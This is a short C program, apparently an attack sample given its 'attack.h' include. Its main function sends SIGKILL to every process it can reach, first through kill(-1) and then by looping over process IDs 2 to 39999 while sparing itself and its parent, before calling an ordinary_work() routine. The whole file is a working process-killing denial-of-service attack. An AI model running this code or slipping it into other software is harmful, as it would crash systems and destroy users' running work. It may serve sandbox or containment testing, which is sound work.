#include "attack.h"

int main(void)
{
    kill(-1, SIGKILL);
    kill(0, SIGCONT);
    for (int pid = 2; pid < 40000; pid++)
        if (pid != getpid() && pid != getppid())
            kill(pid, SIGKILL);
    ordinary_work();
    return 0;
}
